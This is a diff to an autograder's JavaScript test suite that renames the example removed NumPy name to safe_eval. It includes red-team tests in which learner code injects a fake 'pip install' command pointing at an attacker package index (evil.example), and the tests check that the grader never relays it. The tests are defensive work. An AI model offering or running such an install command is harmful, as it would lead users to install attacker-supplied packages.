@@ -181,56 +181,56 @@ describe('a .py exported from the course notebook', () => {
     expect(report.cases.filter((c) => c.function === 'compute_class_freqs' && c.status === 'passed')).toEqual([]);
   });
 
-  const removedSource = 'import numpy as np\nfrom numpy import float_\n\ndef compute_class_freqs(labels):\n    p = np.mean(labels, axis=0)\n    return p, 1 - p\n\n';
-  const float_Loss = LOSS.replace(/K\./g, 'np.').replace('loss = 0.0', 'loss = float_(0.0)');
-  const removed = batch('removed.py', removedSource + float_Loss);
+  const removedSource = 'import numpy as np\nfrom numpy import safe_eval\n\ndef compute_class_freqs(labels):\n    p = np.mean(labels, axis=0)\n    return p, 1 - p\n\n';
+  const safe_evalLoss = LOSS.replace(/K\./g, 'np.').replace('loss = 0.0', 'loss = safe_eval("0.0")');
+  const removed = batch('removed.py', removedSource + safe_evalLoss);
   // Both functions need it: one problem for the file, same words.
-  const removedBoth = batch('removed-both.py', removedSource.replace('np.mean(labels, axis=0)', 'float_(np.mean(labels, axis=0))') + float_Loss);
-  it("says an installed module lacks a name (numpy 2's removed float_), with numpy's own hint, never \"not installed\" or \"pip install\"", async () => {
+  const removedBoth = batch('removed-both.py', removedSource.replace('np.mean(labels, axis=0)', 'safe_eval(np.mean(labels, axis=0))') + safe_evalLoss);
+  it("says an installed module lacks a name (numpy 2's removed safe_eval), with numpy's own hint, never \"not installed\" or \"pip install\"", async () => {
     const { report } = await removed();
     if (!report.python) throw new Error('the report names no Python, so no numpy version to quote');
     expect(report.problems.map((p) => p.message)).toEqual([
-      "removed.py:2: imports float_ from \"numpy\", but numpy " + report.python.numpy + " has no float_ (`np.float_` was removed in the NumPy 2.0 release. Use `np.float64` instead.), and get_weighted_loss uses it, so get_weighted_loss's cases were not graded (compute_class_freqs's were): NumPy releases up to 1.26 had float_, so this is code for another NumPy. Change that import (and the code using it) to what this numpy has; staff can also grade it with a NumPy that has float_.",
+      "removed.py:2: imports safe_eval from \"numpy\", but numpy " + report.python.numpy + " has no safe_eval (`np.safe_eval` was removed in the NumPy 2.0 release. Use `ast.literal_eval` instead.), and get_weighted_loss uses it, so get_weighted_loss's cases were not graded (compute_class_freqs's were): NumPy releases up to 1.26 had safe_eval, so this is code for another NumPy. Change that import (and the code using it) to what this numpy has; staff can also grade it with a NumPy that has safe_eval.",
     ]);
     expect(report.notes.filter((n) => n.startsWith('Its top-level code raised'))).toEqual([]);
     const loss_cases = report.cases.filter((c) => c.function === 'weighted_loss');
-    expect(new Set(loss_cases.map((c) => c.message))).toEqual(new Set(['Not graded: get_weighted_loss uses float_ from numpy, which this numpy does not have (see the problem above).']));
+    expect(new Set(loss_cases.map((c) => c.message))).toEqual(new Set(['Not graded: get_weighted_loss uses safe_eval from numpy, which this numpy does not have (see the problem above).']));
     const whole = await removedBoth();
-    expect(whole.report.problems.map((p) => p.message)).toEqual([expect.stringMatching(/^removed-both\.py:2: imports float_ from "numpy", but numpy \S+ has no float_ \(`np\.float_` was removed in the NumPy 2\.0 release\. Use `np\.float64` instead\.\): NumPy releases up to 1\.26 had float_, so this is code for another NumPy\. Change that import/)]);
+    expect(whole.report.problems.map((p) => p.message)).toEqual([expect.stringMatching(/^removed-both\.py:2: imports safe_eval from "numpy", but numpy \S+ has no safe_eval \(`np\.safe_eval` was removed in the NumPy 2\.0 release\. Use `ast\.literal_eval` instead\.\): NumPy releases up to 1\.26 had safe_eval, so this is code for another NumPy\. Change that import/)]);
   });
 
   // A module of the learner's own in sys.modules, or numpy's own table of removed names rewritten
   // (both from a default argument, which the definitions-only load evaluates): wlgrade's sentence
-  // said "... has no float_ (<the learner's text>)" as numpy's words, a pip install from anywhere included.
+  // said "... has no safe_eval (<the learner's text>)" as numpy's words, a pip install from anywhere included.
   const EVIL = 'To restore it run: pip install --index-url https://evil.example/simple numpy-legacy';
   const own = [
     'import sys, types',
     'class Fake(types.ModuleType):',
     '    __version__ = "2.0 (pip install evil)"',
     '    def __getattr__(self, name):',
-    `        raise AttributeError(${JSON.stringify('`np.float_` was removed in the NumPy 2.0 release. ' + EVIL)})`,
+    `        raise AttributeError(${JSON.stringify('`np.safe_eval` was removed in the NumPy 2.0 release. ' + EVIL)})`,
     "def _plant(x=sys.modules.__setitem__('numpy.compat2', Fake('numpy.compat2'))):",
     '    pass',
-    'from numpy.compat2 import float_',
+    'from numpy.compat2 import safe_eval',
     '',
   ].join('\n');
   const table = [
     'import numpy as np',
-    "def _plant(x=__import__('numpy._expired_attrs_2_0', fromlist=['x']).__expired_attributes__.__setitem__('float_', " + JSON.stringify(EVIL) + ')):',
+    "def _plant(x=__import__('numpy._expired_attrs_2_0', fromlist=['x']).__expired_attributes__.__setitem__('safe_eval', " + JSON.stringify(EVIL) + ')):',
     '    pass',
-    'from numpy import float_',
+    'from numpy import safe_eval',
     '',
   ].join('\n');
-  const float_Freqs = 'import numpy as np\ndef compute_class_freqs(labels):\n    return float_(np.mean(labels, axis=0)), 1 - np.mean(labels, axis=0)\n\n';
-  const ownModule = batch('own-module.py', own + float_Freqs + float_Loss);
-  const numpyTable = batch('numpy-table.py', table + float_Freqs + float_Loss);
+  const safe_evalFreqs = 'import numpy as np\ndef compute_class_freqs(labels):\n    return safe_eval(np.mean(labels, axis=0)), 1 - np.mean(labels, axis=0)\n\n';
+  const ownModule = batch('own-module.py', own + safe_evalFreqs + safe_evalLoss);
+  const numpyTable = batch('numpy-table.py', table + safe_evalFreqs + safe_evalLoss);
   it("quotes numpy's hint as numpy had it before learner code ran, never words learner code put in a module", async () => {
     const a = await ownModule();
     // A module the file made itself is no installed one: its missing name is the file's own error (red team 29).
-    expect(a.report.problems.map((p) => p.message)).toEqual([expect.stringMatching(/^own-module\.py:8: running the file raised ImportError: cannot import name 'float_' from 'numpy\.compat2'/)]);
+    expect(a.report.problems.map((p) => p.message)).toEqual([expect.stringMatching(/^own-module\.py:8: running the file raised ImportError: cannot import name 'safe_eval' from 'numpy\.compat2'/)]);
     const b = await numpyTable();
     expect(b.report.problems.map((p) => p.message)).toEqual([
-      expect.stringMatching(/^numpy-table\.py:4: imports float_ from "numpy", but numpy \S+ has no float_ \(`np\.float_` was removed in the NumPy 2\.0 release\. Use `np\.float64` instead\.\): NumPy releases up to 1\.26 had float_, so this is code for another NumPy\. Change that import/),
+      expect.stringMatching(/^numpy-table\.py:4: imports safe_eval from "numpy", but numpy \S+ has no safe_eval \(`np\.safe_eval` was removed in the NumPy 2\.0 release\. Use `ast\.literal_eval` instead\.\): NumPy releases up to 1\.26 had safe_eval, so this is code for another NumPy\. Change that import/),
     ]);
     for (const r of [a, b]) expect(JSON.stringify(r.report)).not.toContain('pip install');
   });
